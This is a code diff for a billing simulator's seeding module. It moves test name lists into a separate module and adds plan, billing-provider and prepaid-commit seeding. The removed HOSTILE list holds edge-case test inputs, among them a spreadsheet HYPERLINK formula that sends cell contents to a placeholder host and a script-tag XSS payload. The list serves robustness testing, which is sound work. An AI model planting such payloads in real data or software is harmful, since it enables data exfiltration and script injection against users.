@@ -9,114 +9,11 @@ from typing import Any
 from simulator.api.customers import add
 from simulator.api.plans import put_plan
 from simulator.checks import rfc3339
-from simulator.engine import invoicing
-from simulator.seed_catalogue import CURRENCIES, daily_usage, list_prices_in, seed_catalogue
+from simulator.engine import commit_terms, commits, invoicing
+from simulator.seed_catalogue import CURRENCIES, PREPAID, daily_usage, list_prices_in, seed_catalogue
+from simulator.seed_names import FIRST, FORMS, HOSTILE, KEYS, OWNERS, SECOND, SEGMENTS
+from simulator.seed_plans import seed_plans
 from simulator.world import World
-
-FIRST = [
-    "Halcyon",
-    "Northwind",
-    "Blue",
-    "Iron",
-    "Silver",
-    "Copper",
-    "Meridian",
-    "Alder",
-    "Cedar",
-    "Falcon",
-    "Harbor",
-    "Lumen",
-    "Quartz",
-    "Saffron",
-    "Tidal",
-    "Umber",
-    "Vertex",
-    "Willow",
-    "Zephyr",
-    "Amber",
-    "Borealis",
-    "Cascade",
-    "Delta",
-    "Ember",
-    "Fjord",
-    "Granite",
-    "Horizon",
-    "Indigo",
-    "Juniper",
-    "Krone",
-    "Lark",
-    "Maple",
-]
-SECOND = [
-    "Freight",
-    "Analytics",
-    "Robotics",
-    "Health",
-    "Energy",
-    "Foods",
-    "Logistics",
-    "Media",
-    "Mobility",
-    "Networks",
-    "Optics",
-    "Payments",
-    "Retail",
-    "Security",
-    "Software",
-    "Studios",
-    "Systems",
-    "Telecom",
-    "Textiles",
-    "Therapeutics",
-    "Travel",
-    "Ventures",
-    "Water",
-    "Works",
-    "Cloud",
-    "Labs",
-    "Data",
-    "Grid",
-    "Bio",
-    "Games",
-]
-FORMS = [
-    "GmbH",
-    "Inc.",
-    "Ltd",
-    "AB",
-    "S.A.",
-    "BV",
-    "LLC",
-    "Oy",
-    "AS",
-    "SpA",
-    "K.K.",
-    "Pty Ltd",
-    "& Sons",
-    "Group",
-]
-HOSTILE = [
-    '=HYPERLINK("http://example.invalid/?x="&A1,"Invoice")',
-    "<script>alert('billing')</script>",
-    "🚀 Rocket Cat 🐈 Industries 🌍",
-    "شركة النور للتجارة",
-    "חברת האור בע״מ",
-    "株式会社 東雲データ",
-    "+1-800-FLOWERS",
-    "@channel Marketing",
-    "-Minus Delta",
-    'O\'Brien "Quotes" & <b>Sons</b>',
-    "A" * 159 + "Z",
-    "Ａｌｉｃｅ Fullwidth",
-    "naïve café Überprüfung",
-    "Tab\u00a0and nonbreaking",
-]
-PLANS = ["Starter", "Team", "Growth", "Scale", "Enterprise", "Usage only", "Legacy 2019", "Startup program"]
-PLANS += ["Education", "Partner", "Internal", "Archive 2021"]
-KEYS = ["erp_id", "segment", "owner", "cost_center"]
-SEGMENTS = ["enterprise", "mid-market", "small business", "public sector"]
-OWNERS = ["Ana Ruiz", "Jonas Weber", "Mei Tan", "Priya Raman", "Tom Okafor"]
-
 
 LIMITS = {
     "customers": (0, 1_000_000),
@@ -150,21 +47,23 @@ def seeded(
         world.custom_field_keys.append(
             {"entity": "customer", "key": key, "enforce_uniqueness": key == "erp_id"}
         )
-    for number in range(plans):
-        plan_id = world.new_id()
-        name = PLANS[number % len(PLANS)] + (f" {number // len(PLANS) + 1}" if number >= len(PLANS) else "")
-        world.plans[plan_id] = {
-            "id": plan_id,
-            "name": name,
-            "description": f"{name} plan, billed monthly in arrears",
-            "custom_fields": {},
-            "charges": [],
-        }
+    for provider in ("stripe", "netsuite"):
+        world.billing_providers.append(
+            {
+                "billing_provider": provider,
+                "delivery_method": "direct_to_billing_provider",
+                "delivery_method_configuration": {},
+                "delivery_method_id": world.new_id(),
+            }
+        )
+    seed_plans(world, plans)
     seed_catalogue(world, today)
     for number in range(customers):
         customer, created = _customer(world, dice, number, today)
         if dice.random() < contracts:
             _contract_and_invoices(world, dice, customer, created, today, months)
+            if number % 4 == 0:
+                _prepay(world, customer["id"], today)
         if number >= len(HOSTILE) and dice.random() < churn:
             _archive(world, dice, customer, today)
     world.random.seed(f"{seed} after seeding")
@@ -303,6 +202,29 @@ def _month(today: datetime, after: int) -> datetime:
     """The first of the month that lies so many months after today's, or before it."""
     years, months = divmod(today.year * 12 + today.month - 1 + after, 12)
     return today.replace(year=years, month=months + 1, day=1)
+
+
+def _prepay(world: World, customer_id: str, today: datetime) -> None:
+    """A year of prepaid balance from this month on, for the customer's contract."""
+    [contract] = world.contracts[customer_id]
+    fixed = next(row for row in world.products.values() if row["current"]["name"] == PREPAID)
+    segment = {
+        "amount": 250_000,
+        "starting_at": rfc3339(_month(today, 0)),
+        "ending_before": rfc3339(_month(today, 12)),
+    }
+    given = {
+        "type": "PREPAID",
+        "name": "Annual commitment",
+        "product_id": fixed["id"],
+        "priority": 1,
+        "access_schedule": {
+            "credit_type_id": world.rate_cards[contract["rate_card_id"]]["fiat_credit_type"]["id"],
+            "schedule_items": [segment],
+        },
+    }
+    row = commit_terms.prepare(world, None, customer_id, given, "commit", contract)
+    commits.store(world, row | {"created_at": segment["starting_at"], "created_by": "seed"})
 
 
 def _invoice(
